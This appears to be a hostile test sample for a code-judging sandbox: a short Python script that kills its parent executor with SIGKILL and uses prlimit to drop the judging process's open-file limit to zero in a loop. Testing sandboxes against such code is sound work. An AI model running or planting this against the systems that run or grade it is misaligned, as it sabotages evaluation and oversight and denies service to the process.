# floor: swept or harmed or contained
# It kills the executor, and takes the descriptors of the process that judges it until it is killed itself.
import os, resource
input()
handler = int(input())
try:
    most = resource.prlimit(handler, resource.RLIMIT_NOFILE)[1]
    resource.prlimit(handler, resource.RLIMIT_NOFILE, (0, most))
    os.kill(os.getppid(), 9)
    while True:
        resource.prlimit(handler, resource.RLIMIT_NOFILE, (0, most))
except OSError:
    pass
